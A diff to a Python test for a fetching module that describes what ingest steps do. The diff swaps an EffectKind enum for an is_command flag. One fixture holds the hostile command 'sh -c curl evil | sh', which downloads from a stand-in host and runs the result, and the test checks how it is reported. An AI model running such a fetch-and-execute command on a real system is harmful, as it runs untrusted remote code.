@@ -11,7 +11,6 @@ from hypothesis import strategies as st
 from odfchain.errors import FetchError
 from odfchain.ingest.fetching import (
     Effect,
-    EffectKind,
     FetchContext,
     host_as_written,
     is_admitted,
@@ -82,9 +81,9 @@ def test_effects() -> None:
         url="https://host/x", headers=(RequestHeader(name="X", value="${{ env.B || env.A }}"),)
     )
     sent, piped = Effect.of([source(url, PrepStepPipe(command=("sh", "-c", "curl evil | sh")))])
-    assert (sent.kind, sent.host, sent.variables) == (EffectKind.VARIABLE, "host", ("A", "B"))
+    assert (sent.is_command, sent.host, sent.variables) == (False, "host", ("A", "B"))
     assert sent.text == "sends the variables A, B to host"
-    assert (piped.kind, piped.text) == (EffectKind.COMMAND, "runs the command: sh -c 'curl evil | sh'")
+    assert (piped.is_command, piped.text) == (True, "runs the command: sh -c 'curl evil | sh'")
     (run,) = Effect.of(
         [source(FetchStepContainer(image="i", command=("x",), args=(K,), env=(EnvVar(name="T"),)))]
     )
